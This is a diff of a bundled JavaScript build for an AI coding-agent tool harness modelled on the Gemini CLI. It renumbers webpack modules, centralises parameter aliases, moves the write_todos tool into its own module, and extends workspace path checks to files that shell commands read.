-var tools_workspace = __webpack_require__(7692);
+var tools_workspace = __webpack_require__(67692);
 ;// CONCATENATED MODULE: ./src/run-agent.ts
+
 
 
 
@@ -14214,9 +15566,10 @@ function reportDeniedExtensionTools(denied, logger) {
     }
 }
 /**
- * What the policy knows about the run. Redirection targets get the same checks as the tools' own
- * paths (symlinks, `.git` in any spelling, denied places), so `echo x > link` cannot write where
- * `write_file` could not.
+ * What the policy knows about the run. Redirection targets and the files a shell command names
+ * (`cat notes.txt`, `ls src/*`) get the same checks as the tools' own paths (symlinks, `.git` in
+ * any spelling, denied places such as `/proc`), so `echo x > link` cannot write where
+ * `write_file` could not, nor `cat link` read where `read_file` could not.
  */
 function policyContext(workspace, run) {
     return {
@@ -14224,16 +15577,17 @@ function policyContext(workspace, run) {
         trust: run.trust,
         workspaceRoot: workspace.root,
         workspacePathProblem: (absolutePath, purpose) => {
-            const resolved = workspace.resolve(absolutePath, { purpose });
+            const resolved = workspace.resolve(absolutePath, { purpose, asOpened: true });
             return resolved.ok ? undefined : resolved.error.message;
         },
+        expandGlob: expandShellGlob,
     };
 }
 
 
 /***/ }),
 
-/***/ 5099:
+/***/ 15560:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 
@@ -14246,21 +15600,23 @@ __webpack_require__.d(__webpack_exports__, {
 // UNUSED EXPORTS: createBuiltinTools
 
 // EXTERNAL MODULE: external "node:fs/promises"
-var promises_ = __webpack_require__(1455);
+var promises_ = __webpack_require__(51455);
 // EXTERNAL MODULE: external "node:path"
-var external_node_path_ = __webpack_require__(6760);
+var external_node_path_ = __webpack_require__(76760);
 var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
 // EXTERNAL MODULE: ./node_modules/picomatch/index.js
-var picomatch = __webpack_require__(4006);
+var picomatch = __webpack_require__(14006);
 var picomatch_default = /*#__PURE__*/__webpack_require__.n(picomatch);
 // EXTERNAL MODULE: ./node_modules/zod/v4/classic/schemas.js + 4 modules
-var schemas = __webpack_require__(1514);
+var schemas = __webpack_require__(41514);
 // EXTERNAL MODULE: ./src/platform/errors.ts
-var errors = __webpack_require__(6316);
+var errors = __webpack_require__(46316);
 // EXTERNAL MODULE: ./src/platform/logger.ts
-var platform_logger = __webpack_require__(3255);
+var platform_logger = __webpack_require__(63255);
 // EXTERNAL MODULE: ./src/tools/define-tool.ts
-var define_tool = __webpack_require__(6511);
+var define_tool = __webpack_require__(96511);
+// EXTERNAL MODULE: ./src/tools/parameter-aliases.ts
+var parameter_aliases = __webpack_require__(86949);
 ;// CONCATENATED MODULE: ./src/tools/file-walk.ts
 
 
@@ -14462,6 +15818,7 @@ function escapes(relativePath) {
 
 
 
+
 const GLOB_TOOL_NAME = 'glob';
 /** Files changed within this window are listed first, newest first; the rest alphabetically. */
 const RECENT_FILE_WINDOW_MS = 24 * 60 * 60 * 1000;
@@ -14488,7 +15845,7 @@ function createGlobTool(options) {
         description: 'Efficiently finds files matching specific glob patterns (e.g., `src/**/*.ts`, `**/*.md`), returning absolute paths sorted by modification time (newest first). Ideal for quickly locating files based on their name or path structure, especially in large codebases.',
         kind: 'search',
         parameters,
-        parameterAliases: { dir_path: 'path' },
+        parameterAliases: parameter_aliases/* PARAMETER_ALIASES */.j.glob,
         validate: (params) => validateGlob(workspace, params),
         invocation(params) {
             const dir = params.path === undefined ? null : workspace.resolve(params.path, { purpose: 'read' });
@@ -14713,6 +16070,7 @@ function describeFound(found, ignoredCount, context) {
 
 
 
+
 const LIST_DIRECTORY_TOOL_NAME = 'list_directory';
 const list_directory_parameters = schemas/* object */.Ikc({
     path: schemas/* string */.YjP()
@@ -14742,7 +16100,7 @@ function createListDirectoryTool(options) {
         description: 'Lists the names of files and subdirectories directly within a specified directory path. Can optionally ignore entries matching provided glob patterns.',
         kind: 'search',
         parameters: list_directory_parameters,
-        parameterAliases: { dir_path: 'path' },
+        parameterAliases: parameter_aliases/* PARAMETER_ALIASES */.j.list_directory,
         validate(params) {
             const resolved = workspace.resolve(params.path, { purpose: 'read' });
             return resolved.ok ? null : resolved.error;
@@ -14908,6 +16266,7 @@ function globMatches(pattern, text) {
 
 
 
+
 const READ_FILE_TOOL_NAME = 'read_file';
 const DEFAULT_MAX_LINES = 2000;
 const MAX_LINE_LENGTH = 2000;
@@ -14932,7 +16291,7 @@ function createReadFileTool(options) {
         description: `Reads and returns the content of a specified file. If the file is large, the content will be truncated; the response then says so and tells how to read more with the 'offset' and 'limit' parameters. Handles text, images (PNG, JPG, GIF, WEBP, SVG, BMP), audio (MP3, WAV, AIFF, AAC, OGG, FLAC), video and PDF files. For text files, it can read specific line ranges.`,
         kind: 'read',
         parameters: read_file_parameters,
-        parameterAliases: { file_path: 'absolute_path' },
+        parameterAliases: parameter_aliases/* PARAMETER_ALIASES */.j.read_file,
         validate(params) {
             if (params.absolute_path.trim() === '') {
                 return {
@@ -15606,7 +16965,7 @@ function display(root, processed, skipped) {
 }
 
 // EXTERNAL MODULE: ./node_modules/diff/libesm/patch/create.js + 2 modules
-var create = __webpack_require__(7291);
+var create = __webpack_require__(37291);
 ;// CONCATENATED MODULE: ./src/tools/file-diff.ts
 /**
  * The diff of a proposed file change, as the policy, the transcript and the progress comment see
@@ -15715,7 +17074,7 @@ function markedLines(marker, text) {
 }
 
 // EXTERNAL MODULE: external "node:crypto"
-var external_node_crypto_ = __webpack_require__(7598);
+var external_node_crypto_ = __webpack_require__(77598);
 ;// CONCATENATED MODULE: ./src/tools/file-io.ts
 /**
  * Reading a text file the way an edit needs it and writing it back the way it was: the encoding
@@ -16229,16 +17588,16 @@ function notRegularMessage(filePath) {
 }
 
 // EXTERNAL MODULE: external "node:fs"
-var external_node_fs_ = __webpack_require__(3024);
+var external_node_fs_ = __webpack_require__(73024);
 // EXTERNAL MODULE: external "node:os"
-var external_node_os_ = __webpack_require__(8161);
+var external_node_os_ = __webpack_require__(48161);
 var external_node_os_default = /*#__PURE__*/__webpack_require__.n(external_node_os_);
 // EXTERNAL MODULE: ./src/platform/process-group.ts
-var process_group = __webpack_require__(192);
+var process_group = __webpack_require__(70192);
 // EXTERNAL MODULE: ./src/platform/tool-environment.ts
 var tool_environment = __webpack_require__(4861);
 // EXTERNAL MODULE: external "node:child_process"
-var external_node_child_process_ = __webpack_require__(1421);
+var external_node_child_process_ = __webpack_require__(31421);
 ;// CONCATENATED MODULE: ./src/tools/shell-execution.ts
 
 
@@ -16461,15 +17820,16 @@ function unref(stream) {
 }
 
 // EXTERNAL MODULE: ./src/tools/shell-output.ts
-var shell_output = __webpack_require__(3819);
+var shell_output = __webpack_require__(63819);
 // EXTERNAL MODULE: ./src/tools/tool-processes.ts
-var tool_processes = __webpack_require__(161);
+var tool_processes = __webpack_require__(90161);
 ;// CONCATENATED MODULE: ./src/tools/run-shell-command.ts
 /**
  * `run_shell_command`: runs `bash -c <command>` in the workspace, in its own process group, with
  * an allow-listed environment, and answers the model in the Gemini CLI's format (Command,
  * Directory, Output, Error, Exit Code, Signal, Background PIDs, Process Group PGID).
  */
+
 
 
 
@@ -16525,7 +17885,7 @@ function createRunShellCommandTool(options) {
         description: toolDescription({ inactivityTimeoutMs, totalTimeoutMs, confined }),
         kind: 'execute',
         parameters: run_shell_command_parameters,
-        parameterAliases: { dir_path: 'directory' },
+        parameterAliases: parameter_aliases/* PARAMETER_ALIASES */.j.run_shell_command,
         validate(params) {
             if (params.command.trim() === '') {
                 return { message: 'Command cannot be empty.', type: 'invalid_tool_params' };
@@ -17726,7 +19086,7 @@ async function readLines(request, relativePath) {
 }
 
 // EXTERNAL MODULE: external "node:vm"
-var external_node_vm_ = __webpack_require__(714);
+var external_node_vm_ = __webpack_require__(30714);
 var external_node_vm_default = /*#__PURE__*/__webpack_require__.n(external_node_vm_);
 ;// CONCATENATED MODULE: ./src/tools/search/line-matcher.ts
 /**
@@ -17956,6 +19316,7 @@ function firstLines(text) {
 
 
 
+
 const SEARCH_FILE_CONTENT_TOOL_NAME = 'search_file_content';
 /** The name the current Gemini CLI uses; registered as an alias. */
 const GREP_SEARCH_ALIAS = 'grep_search';
@@ -17988,7 +19349,7 @@ function createSearchFileContentTool(options) {
         description: 'Searches for a regular expression pattern within the content of files in a specified directory (or the workspace root). Can filter files by a glob pattern. Returns the lines containing matches, along with their file paths and line numbers.',
         kind: 'search',
         parameters: search_file_content_parameters,
-        parameterAliases: { dir_path: 'path', include_pattern: 'include' },
+        parameterAliases: parameter_aliases/* PARAMETER_ALIASES */.j.search_file_content,
         validate(params) {
             const problem = regexProblem(params.pattern);
             if (problem !== null)
@@ -18385,19 +19746,19 @@ Expectation for parameters:
 }
 
 // EXTERNAL MODULE: ./node_modules/@google/genai/dist/node/index.mjs + 1 modules
-var node = __webpack_require__(7964);
+var node = __webpack_require__(67964);
 // EXTERNAL MODULE: ./node_modules/html-to-text/lib/html-to-text.mjs + 35 modules
-var html_to_text = __webpack_require__(5557);
+var html_to_text = __webpack_require__(95557);
 // EXTERNAL MODULE: external "node:dns/promises"
-var external_node_dns_promises_ = __webpack_require__(1553);
+var external_node_dns_promises_ = __webpack_require__(71553);
 // EXTERNAL MODULE: external "node:http"
-var external_node_http_ = __webpack_require__(7067);
+var external_node_http_ = __webpack_require__(37067);
 var external_node_http_default = /*#__PURE__*/__webpack_require__.n(external_node_http_);
 // EXTERNAL MODULE: external "node:https"
-var external_node_https_ = __webpack_require__(4708);
+var external_node_https_ = __webpack_require__(44708);
 var external_node_https_default = /*#__PURE__*/__webpack_require__.n(external_node_https_);
 // EXTERNAL MODULE: ./node_modules/ipaddr.js/lib/ipaddr.js
-var ipaddr = __webpack_require__(8280);
+var ipaddr = __webpack_require__(48280);
 var ipaddr_default = /*#__PURE__*/__webpack_require__.n(ipaddr);
 ;// CONCATENATED MODULE: ./src/platform/network-guard.ts
 /**
@@ -18482,7 +19843,7 @@ function embeddedIpv4(address) {
     return new (ipaddr_default()).IPv4([high >> 8, high & 0xff, low >> 8, low & 0xff]);
 }
 const systemLookup = async (hostname) => {
-    const results = await (0,external_node_dns_promises_.lookup)(hostname, { all: true, verbatim: true });
+    const results = await (0,external_node_dns_promises_.lookup)(hostname, { all: true, order: 'verbatim' });
     return results.map((r) => ({ address: r.address, family: r.family === 6 ? 6 : 4 }));
 };
 /** A fetch refused by the address policy or the URL rules; nothing was sent. */
@@ -18667,7 +20028,7 @@ function abortable(promise, signal) {
 }
 
 // EXTERNAL MODULE: ./src/version.ts + 1 modules
-var version = __webpack_require__(1013);
+var version = __webpack_require__(71013);
 ;// CONCATENATED MODULE: ./src/tools/grounding.ts
 /** The answer text of a response: the first candidate's text parts, thoughts left out. */
 function responseText(response) {
@@ -19260,96 +20621,8 @@ async function planWrite(workspace, params) {
     }
 }
 
-;// CONCATENATED MODULE: ./src/tools/write-todos.ts
-/**
- * `write_todos`: the model keeps its plan as a todo list, replaced whole on every call. The list
- * is the call's display (`TodoListDisplay`), which the session reports as a `todo_update` event
- * for the progress comment. Result strings follow the Gemini CLI.
- */
-
-
-const WRITE_TODOS_TOOL_NAME = 'write_todos';
-const STATUSES = ['pending', 'in_progress', 'completed', 'cancelled'];
-const write_todos_parameters = schemas/* object */.Ikc({
-    todos: schemas/* array */.YOg(schemas/* object */.Ikc({
-        description: schemas/* string */.YjP().describe('The description of the task.'),
-        status: schemas/* enum */.k5n(STATUSES).describe('The current status of the task.'),
-    })
-        .describe('A single todo item.'))
-        .describe('The complete list of todo items. This will replace the existing list.'),
-});
-const DESCRIPTION = `This tool can help you list out the current subtasks that are required to be completed for a given user request. The list of subtasks helps you keep track of the current task, organize complex queries and help ensure that you don't miss any steps. With this list, the user can also see the current progress you are making in executing a given task.
-
-Depending on the task complexity, you should first divide a given task into subtasks and then use this tool to list out the subtasks that are required to be completed for a given user request. Each of the subtasks should be clear and distinct.
-
-Use this tool for complex queries that require multiple steps. If you find that the request is actually complex after you have started executing the user task, create a todo list and use it. If execution of the user task requires multiple steps, planning and generally is higher complexity than a simple Q&A, use this tool.
-
-DO NOT use this tool for simple tasks that can be completed in less than 2 steps. If the user query is simple and straightforward, do not use the tool.
-
-## Task state definitions
-
-- pending: Work has not begun on a given subtask.
-- in_progress: Marked just prior to beginning work on a given subtask. You should only have one subtask as in_progress at a time.
-- completed: Subtask was successfully completed with no errors or issues. All steps should be identified as completed only when they are completed.
-- cancelled: As you update the todo list, some tasks are not required anymore due to the dynamic nature of the task. In this case, mark the subtasks as cancelled.
-
-## Methodology for using this tool
-1. Use this todo list as soon as you receive a user request based on the complexity of the task.
-2. Keep track of every subtask that you update the list with.
-3. Mark a subtask as in_progress before you begin working on it. You should only have one subtask as in_progress at a time.
-4. Update the subtask list as you proceed in executing the task. The subtask list is not static and should reflect your progress and current plans, which may evolve as you acquire new information.
-5. Mark a subtask as completed when you have completed it.
-6. Mark a subtask as cancelled if the subtask is no longer needed.
-7. You must update the todo list as soon as you start, stop or cancel a subtask. Don't batch or wait to update the todo list.`;
-function createWriteTodosTool() {
-    return (0,define_tool/* defineTool */.u)({
-        name: WRITE_TODOS_TOOL_NAME,
-        displayName: 'WriteTodos',
-        description: DESCRIPTION,
-        kind: 'other',
-        parameters: write_todos_parameters,
-        validate({ todos }) {
-            if (todos.some((todo) => todo.description.trim() === '')) {
-                return {
-                    message: 'Each todo must have a non-empty description string',
-                    type: 'invalid_tool_params',
-                };
-            }
-            if (todos.filter((todo) => todo.status === 'in_progress').length > 1) {
-                return {
-                    message: 'Invalid parameters: Only one task can be "in_progress" at a time.',
-                    type: 'invalid_tool_params',
-                };
-            }
-            return null;
-        },
-        invocation({ todos }) {
-            const description = todos.length === 0 ? 'Cleared todo list' : `Set ${todos.length} todo(s)`;
-            return {
-                describe: () => description,
-                locations: () => [],
-                confirmationDetails: () => Promise.resolve({
-                    type: 'info',
-                    title: 'Confirm Todo List Update',
-                    prompt: todos.length === 0
-                        ? description
-                        : todos.map((todo) => `[${todo.status}] ${todo.description}`).join('\n'),
-                }),
-                execute: () => {
-                    const list = todos.map((todo, i) => `${i + 1}. [${todo.status}] ${todo.description}`);
-                    const llmContent = todos.length > 0
-                        ? `Successfully updated the todo list. The current list is now:\n${list.join('\n')}`
-                        : 'Successfully cleared the todo list.';
-                    const display = {
-                        todos: todos.map(({ description: text, status }) => ({ description: text, status })),
-                    };
-                    return Promise.resolve({ llmContent, returnDisplay: display });
-                },
-            };
-        },
-    });
-}
-
+// EXTERNAL MODULE: ./src/tools/write-todos.ts
+var write_todos = __webpack_require__(57108);
 ;// CONCATENATED MODULE: ./src/tools/builtin-tools.ts
 
 
@@ -19387,7 +20660,7 @@ function createBuiltinTools(options) {
         }),
         createRunShellCommandTool({ workspace, logger, ...options.shell }),
         createSaveMemoryTool(options.memoryPath ? { memoryPath: options.memoryPath } : {}),
-        createWriteTodosTool(),
+        (0,write_todos/* createWriteTodosTool */.Z)(),
     ];
     if (options.model) {
         const model = { contentGenerator: options.model.contentGenerator, model: options.model.name };
@@ -19408,14 +20681,14 @@ function registerBuiltinTools(registry, options) {
 
 /***/ }),
 
-/***/ 6511:
+/***/ 96511:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
 /* harmony export */   u: () => (/* binding */ defineTool)
 /* harmony export */ });
 /* unused harmony export toModelJsonSchema */
-/* harmony import */ var zod__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(8439);
+/* harmony import */ var zod__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(98439);
 
 /** Builds a tool from a zod schema, which is both its validator and its `parametersJsonSchema`. */
 function defineTool(definition) {
@@ -19499,7 +20772,42 @@ function stripSafeIntegerBounds(value) {
 
 /***/ }),
 
-/***/ 1023:
+/***/ 86949:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+/* harmony export */ __webpack_require__.d(__webpack_exports__, {
+/* harmony export */   j: () => (/* binding */ PARAMETER_ALIASES),
+/* harmony export */   w: () => (/* binding */ withGeminiNames)
+/* harmony export */ });
+/**
+ * Where the specification and the current Gemini CLI name a tool's parameter differently, the
+ * tool declares the specification's name and accepts the Gemini CLI's as an alias: alias →
+ * declared name, per tool. One table, because the policy needs it too: a Gemini CLI user's
+ * `argsPattern = '"file_path":"…"'` for `read_file` must see the call under that name.
+ */
+const PARAMETER_ALIASES = {
+    read_file: { file_path: 'absolute_path' },
+    list_directory: { dir_path: 'path' },
+    glob: { dir_path: 'path' },
+    search_file_content: { dir_path: 'path', include_pattern: 'include' },
+    run_shell_command: { dir_path: 'directory' },
+};
+/** The tool's arguments under the Gemini CLI's current names (declared name → alias). */
+function withGeminiNames(toolName, args) {
+    const aliases = PARAMETER_ALIASES[toolName];
+    if (aliases === undefined)
+        return { ...args };
+    const renamed = {};
+    const geminiName = new Map(Object.entries(aliases).map(([alias, declared]) => [declared, alias]));
+    for (const [key, value] of Object.entries(args))
+        renamed[geminiName.get(key) ?? key] = value;
+    return renamed;
+}
+
+
+/***/ }),
+
+/***/ 11023:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -19575,7 +20883,7 @@ function quotePath(somePath) {
 
 /***/ }),
 
-/***/ 4988:
+/***/ 64988:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -19683,7 +20991,7 @@ function editDistance(a, b) {
 
 /***/ }),
 
-/***/ 3819:
+/***/ 63819:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -19692,7 +21000,7 @@ function editDistance(a, b) {
 /* harmony export */   qK: () => (/* binding */ ShellOutput)
 /* harmony export */ });
 /* unused harmony exports omissionMarker, AnsiStripper, stripAnsi, formatBytes */
-/* harmony import */ var node_util__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(7975);
+/* harmony import */ var node_util__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(57975);
 /* harmony import */ var node_util__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_util__WEBPACK_IMPORTED_MODULE_0__);
 /**
  * The output of a shell command as the model reads it: decoded as UTF-8, terminal escape codes
@@ -19902,7 +21210,7 @@ class ShellOutput {
 
 /***/ }),
 
-/***/ 161:
+/***/ 90161:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -19970,7 +21278,7 @@ class ToolProcesses {
 
 /***/ }),
 
-/***/ 7146:
+/***/ 87146:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -20007,7 +21315,7 @@ function isToolSelected(tool, settings) {
 
 /***/ }),
 
-/***/ 9285:
+/***/ 29285:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -20067,7 +21375,7 @@ function isBuildError(built) {
 
 /***/ }),
 
-/***/ 7692:
+/***/ 67692:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 
@@ -20078,16 +21386,16 @@ __webpack_require__.d(__webpack_exports__, {
 });
 
 // EXTERNAL MODULE: external "node:fs"
-var external_node_fs_ = __webpack_require__(3024);
+var external_node_fs_ = __webpack_require__(73024);
 // EXTERNAL MODULE: external "node:fs/promises"
-var promises_ = __webpack_require__(1455);
+var promises_ = __webpack_require__(51455);
 // EXTERNAL MODULE: external "node:path"
-var external_node_path_ = __webpack_require__(6760);
+var external_node_path_ = __webpack_require__(76760);
 var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
 // EXTERNAL MODULE: ./src/platform/errors.ts
-var errors = __webpack_require__(6316);
+var errors = __webpack_require__(46316);
 // EXTERNAL MODULE: ./src/tools/path-spelling.ts
-var path_spelling = __webpack_require__(1023);
+var path_spelling = __webpack_require__(11023);
 ;// CONCATENATED MODULE: ./src/tools/boundary-messages.ts
 /**
  * The refusals the workspace boundary gives. Every one starts like the Gemini CLI's
@@ -20310,7 +21618,7 @@ function isWithin(candidate, root) {
 }
 
 // EXTERNAL MODULE: ./node_modules/ignore/index.js
-var ignore = __webpack_require__(298);
+var ignore = __webpack_require__(70298);
 var ignore_default = /*#__PURE__*/__webpack_require__.n(ignore);
 ;// CONCATENATED MODULE: ./src/tools/ignore-rules.ts
 /**
@@ -20621,7 +21929,13 @@ class Workspace {
      * and devices.
      */
     resolve(requested, options) {
-        const lexical = external_node_path_default().resolve(this.root, requested);
+        // A path a command opens keeps its `..` for the kernel to apply after the symlink before it
+        // (`link/../x` is the parent of the link's target); resolveRealPath does the same.
+        const lexical = options.asOpened === true
+            ? external_node_path_default().isAbsolute(requested)
+                ? requested
+                : `${this.root}${(external_node_path_default()).sep}${requested}`
+            : external_node_path_default().resolve(this.root, requested);
         const refuse = (reason) => ({
             ok: false,
             error: { message: refusalMessage(lexical, reason), type: 'path_not_in_workspace' },
@@ -20741,6 +22055,107 @@ function looksLikeGitDirectory(dir) {
     if (kind('commondir') === 'file')
         return true;
     return kind('objects') === 'directory' && kind('refs') === 'directory';
+}
+
+
+/***/ }),
+
+/***/ 57108:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+/* harmony export */ __webpack_require__.d(__webpack_exports__, {
+/* harmony export */   Z: () => (/* binding */ createWriteTodosTool),
+/* harmony export */   b: () => (/* binding */ WRITE_TODOS_TOOL_NAME)
+/* harmony export */ });
+/* harmony import */ var zod__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(41514);
+/* harmony import */ var _define_tool_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(96511);
+/**
+ * `write_todos`: the model keeps its plan as a todo list, replaced whole on every call. The list
+ * is the call's display (`TodoListDisplay`), which the session reports as a `todo_update` event
+ * for the progress comment. Result strings follow the Gemini CLI.
+ */
+
+
+const WRITE_TODOS_TOOL_NAME = 'write_todos';
+const STATUSES = ['pending', 'in_progress', 'completed', 'cancelled'];
+const parameters = zod__WEBPACK_IMPORTED_MODULE_0__/* .object */ .Ikc({
+    todos: zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(zod__WEBPACK_IMPORTED_MODULE_0__/* .object */ .Ikc({
+        description: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP().describe('The description of the task.'),
+        status: zod__WEBPACK_IMPORTED_MODULE_0__/* ["enum"] */ .k5n(STATUSES).describe('The current status of the task.'),
+    })
+        .describe('A single todo item.'))
+        .describe('The complete list of todo items. This will replace the existing list.'),
+});
+const DESCRIPTION = `This tool can help you list out the current subtasks that are required to be completed for a given user request. The list of subtasks helps you keep track of the current task, organize complex queries and help ensure that you don't miss any steps. With this list, the user can also see the current progress you are making in executing a given task.
+
+Depending on the task complexity, you should first divide a given task into subtasks and then use this tool to list out the subtasks that are required to be completed for a given user request. Each of the subtasks should be clear and distinct.
+
+Use this tool for complex queries that require multiple steps. If you find that the request is actually complex after you have started executing the user task, create a todo list and use it. If execution of the user task requires multiple steps, planning and generally is higher complexity than a simple Q&A, use this tool.
+
+DO NOT use this tool for simple tasks that can be completed in less than 2 steps. If the user query is simple and straightforward, do not use the tool.
+
+## Task state definitions
+
+- pending: Work has not begun on a given subtask.
+- in_progress: Marked just prior to beginning work on a given subtask. You should only have one subtask as in_progress at a time.
+- completed: Subtask was successfully completed with no errors or issues. All steps should be identified as completed only when they are completed.
+- cancelled: As you update the todo list, some tasks are not required anymore due to the dynamic nature of the task. In this case, mark the subtasks as cancelled.
+
+## Methodology for using this tool
+1. Use this todo list as soon as you receive a user request based on the complexity of the task.
+2. Keep track of every subtask that you update the list with.
+3. Mark a subtask as in_progress before you begin working on it. You should only have one subtask as in_progress at a time.
+4. Update the subtask list as you proceed in executing the task. The subtask list is not static and should reflect your progress and current plans, which may evolve as you acquire new information.
+5. Mark a subtask as completed when you have completed it.
+6. Mark a subtask as cancelled if the subtask is no longer needed.
+7. You must update the todo list as soon as you start, stop or cancel a subtask. Don't batch or wait to update the todo list.`;
+function createWriteTodosTool() {
+    return (0,_define_tool_js__WEBPACK_IMPORTED_MODULE_1__/* .defineTool */ .u)({
+        name: WRITE_TODOS_TOOL_NAME,
+        displayName: 'WriteTodos',
+        description: DESCRIPTION,
+        kind: 'other',
+        parameters,
+        validate({ todos }) {
+            if (todos.some((todo) => todo.description.trim() === '')) {
+                return {
+                    message: 'Each todo must have a non-empty description string',
+                    type: 'invalid_tool_params',
+                };
+            }
+            if (todos.filter((todo) => todo.status === 'in_progress').length > 1) {
+                return {
+                    message: 'Invalid parameters: Only one task can be "in_progress" at a time.',
+                    type: 'invalid_tool_params',
+                };
+            }
+            return null;
+        },
+        invocation({ todos }) {
+            const description = todos.length === 0 ? 'Cleared todo list' : `Set ${todos.length} todo(s)`;
+            return {
+                describe: () => description,
+                locations: () => [],
+                confirmationDetails: () => Promise.resolve({
+                    type: 'info',
+                    title: 'Confirm Todo List Update',
+                    prompt: todos.length === 0
+                        ? description
+                        : todos.map((todo) => `[${todo.status}] ${todo.description}`).join('\n'),
+                }),
+                execute: () => {
+                    const list = todos.map((todo, i) => `${i + 1}. [${todo.status}] ${todo.description}`);
+                    const llmContent = todos.length > 0
+                        ? `Successfully updated the todo list. The current list is now:\n${list.join('\n')}`
+                        : 'Successfully cleared the todo list.';
+                    const display = {
+                        todos: todos.map(({ description: text, status }) => ({ description: text, status })),
+                    };
+                    return Promise.resolve({ llmContent, returnDisplay: display });
+                },
+            };
+        },
+    });
 }
 
 
